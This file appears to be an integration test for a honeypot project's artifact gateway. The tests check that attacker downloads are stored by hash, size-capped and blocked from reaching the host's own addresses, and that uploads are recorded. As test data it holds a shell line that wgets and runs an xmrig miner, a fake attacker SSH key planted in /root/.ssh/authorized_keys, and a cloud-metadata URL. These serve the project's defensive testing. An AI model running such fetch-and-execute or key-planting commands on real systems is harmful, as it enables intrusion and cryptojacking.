// The artifact gateway end to end with real parts: a decoy's gateway client (the one the emulators
// use) over the real Unix socket, the sandboxed fetcher against real HTTP servers on this host, the
// content-addressed store on disk and the artifact rows in a real SQLite database.
import { createHash } from 'node:crypto'
import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { networkInterfaces, tmpdir } from 'node:os'
import { join } from 'node:path'
import type { DecnetDatabase } from '@decnet/db'
import { askGateway, type GatewayAddress, gatewayDownloader } from '@decnet/decoys'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type ArtifactStore, createFetcher, egressGuard, MAX_ARTIFACT_BYTES } from '../../src/index.ts'
import { startTestGateway, type TestGateway } from '../support/artifact-gateway.ts'

const PAYLOAD = Buffer.from('#!/bin/sh\ncd /tmp; wget http://198.51.100.7/xmrig; chmod +x xmrig; ./xmrig\n')
const HUNDRED_MB = 100 * 1024 * 1024
const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex')

/** A non-loopback IPv4 of this host (this host's own address: the fetcher must be told to allow it). */
function lanAddress(): string {
  for (const list of Object.values(networkInterfaces()))
    for (const entry of list ?? []) if (entry.family === 'IPv4' && !entry.internal) return entry.address
  throw new Error('no non-loopback IPv4 address on this host')
}

/** A server counting requests: /payload.sh, /big (100 MB streamed), /moved → /payload.sh, /home → own address. */
async function payloadServer(host: string, ownUrl = '') {
  const requests: string[] = []
  const server: Server = createServer((request, response) => {
    requests.push(`${request.url} auth=${request.headers.authorization ?? ''}`)
    if (request.url === '/payload.sh') response.end(PAYLOAD)
    else if (request.url === '/moved') response.writeHead(302, { location: '/payload.sh' }).end()
    else if (request.url === '/home') response.writeHead(302, { location: ownUrl }).end()
    else if (request.url === '/big') {
      response.writeHead(200, { 'content-length': HUNDRED_MB })
      const block = Buffer.alloc(1024 * 1024, 0x41)
      let sent = 0
      const more = () => {
        while (sent < HUNDRED_MB) {
          sent += block.length
          if (!response.write(block)) return void response.once('drain', more)
        }
        response.end()
      }
      response.on('close', () => (sent = HUNDRED_MB + 1))
      more()
    } else response.writeHead(404).end('nope')
  })
  await new Promise<void>((resolve) => server.listen(0, host, resolve))
  return { server, requests, base: `http://${host}:${(server.address() as AddressInfo).port}` }
}

describe('the artifact gateway', () => {
  const dataDir = mkdtempSync(join(tmpdir(), 'decnet-artifacts-'))
  let kept: TestGateway
  let store: ArtifactStore
  let db: DecnetDatabase
  let lan: Awaited<ReturnType<typeof payloadServer>>
  let own: Awaited<ReturnType<typeof payloadServer>>
  let decky: GatewayAddress

  beforeAll(async () => {
    own = await payloadServer('127.0.0.1')
    lan = await payloadServer(lanAddress(), `${own.base}/payload.sh`)
    // This host's LAN address stands in for a server on the decky LAN; nothing else of ours is allowed.
    kept = await startTestGateway(dataDir, (on) =>
      createFetcher({ store: on, guard: egressGuard({ allow: [lanAddress()] }), egress: true }),
    )
    ;({ store, db } = kept)
    decky = { socket: kept.gateway.socket, decky: 'decky-01', token: kept.tokenFor('decky-01') }
  })
  afterAll(async () => {
    await kept.close()
    for (const { server } of [lan, own]) {
      server.closeAllConnections()
      server.close()
    }
    rmSync(dataDir, { recursive: true, force: true })
  })

  it('fetches for a decoy, stores the bytes once by SHA-256 and records each sighting', async () => {
    const download = gatewayDownloader(decky, '203.0.113.9')
    const first = await download(`${lan.base}/payload.sh`, { tool: 'wget' })
    const again = await download(`http://user:secret@${lan.base.slice(7)}/moved`, { tool: 'curl' })
    expect(first).toMatchObject({
      ok: true,
      status: 200,
      size: PAYLOAD.length,
      sha256: sha256(PAYLOAD),
      truncated: false,
    })
    expect(again).toMatchObject({ ok: true, url: `${lan.base}/payload.sh`, sha256: sha256(PAYLOAD) })
    // No credentials leave: the userinfo of the URL was not turned into an Authorization header.
    expect(lan.requests).toEqual(['/payload.sh auth=', '/moved auth=', '/payload.sh auth='])

    const file = store.pathOf(sha256(PAYLOAD)) as string
    expect(readFileSync(file)).toEqual(PAYLOAD)
    expect(statSync(file).mode & 0o777).toBe(0o600)
    const artifact = await db.artifacts.get(sha256(PAYLOAD))
    expect(artifact).toMatchObject({ size: PAYLOAD.length, sightings: 2, truncated: false })
    expect(artifact?.seen.map((s) => [s.decky, s.source, s.attackerIp])).toEqual([
      ['decky-01', 'download', '203.0.113.9'],
      ['decky-01', 'download', '203.0.113.9'],
    ])
  })

  it('cuts a 100 MB download at the cap and records it truncated', async () => {
    const result = await gatewayDownloader(decky)(`${lan.base}/big`)
    const kept = Buffer.alloc(MAX_ARTIFACT_BYTES, 0x41)
    expect(result).toMatchObject({
      ok: true,
      size: MAX_ARTIFACT_BYTES,
      truncated: true,
      sha256: sha256(kept),
    })
    expect(statSync(store.pathOf(sha256(kept)) as string).size).toBe(MAX_ARTIFACT_BYTES)
    expect(await db.artifacts.get(sha256(kept))).toMatchObject({ truncated: true, size: MAX_ARTIFACT_BYTES })
  })

  it("refuses DECNET's own addresses (loopback, localhost, this machine's interfaces, a redirect there): no request made", async () => {
    const guarded = createFetcher({ store, guard: egressGuard(), egress: true })
    const before = own.requests.length + lan.requests.length
    expect(await guarded(`${own.base}/payload.sh`)).toMatchObject({ ok: false, failure: 'blocked' })
    expect(await guarded(`http://localhost:${new URL(own.base).port}/payload.sh`)).toMatchObject({
      ok: false,
      failure: 'blocked',
    })
    expect(await guarded(`${lan.base}/payload.sh`)).toMatchObject({ ok: false, failure: 'blocked' })
    expect(await guarded('http://169.254.169.254/latest/meta-data/')).toMatchObject({ failure: 'blocked' })
    expect(own.requests.length + lan.requests.length).toBe(before)
    // Through the gateway: a server it may reach redirecting to the API's own address is followed no further.
    const redirected = await gatewayDownloader(decky)(`${lan.base}/home`)
    expect(redirected).toMatchObject({ ok: false, failure: 'blocked' })
    expect(own.requests.length).toBe(0)
  })

  it('with egress off fetches nothing', async () => {
    const before = lan.requests.length
    const off = createFetcher({ store, guard: egressGuard({ allow: [lanAddress()] }), egress: false })
    expect(await off(`${lan.base}/payload.sh`)).toMatchObject({ ok: false })
    expect(lan.requests.length).toBe(before)
  })

  it('refuses a decoy without its decky token; stores uploads sent with it', async () => {
    const forged = { ...decky, decky: 'decky-02' }
    expect(await askGateway(forged, '/upload?source=upload&name=x', Buffer.from('x'), 5_000)).toBeUndefined()
    const bytes = Buffer.from('ssh-rsa AAAAB3Nza attacker@host\n')
    const stored = await askGateway(
      decky,
      '/upload?source=upload&name=%2Froot%2F.ssh%2Fauthorized_keys&attacker=203.0.113.9',
      bytes,
      5_000,
    )
    expect(stored).toEqual({ sha256: sha256(bytes), size: bytes.length, truncated: false })
    expect(readFileSync(store.pathOf(sha256(bytes)) as string)).toEqual(bytes)
    expect((await db.artifacts.get(sha256(bytes)))?.seen[0]).toMatchObject({
      decky: 'decky-01',
      source: 'upload',
      name: '/root/.ssh/authorized_keys',
      attackerIp: '203.0.113.9',
    })
  })
})
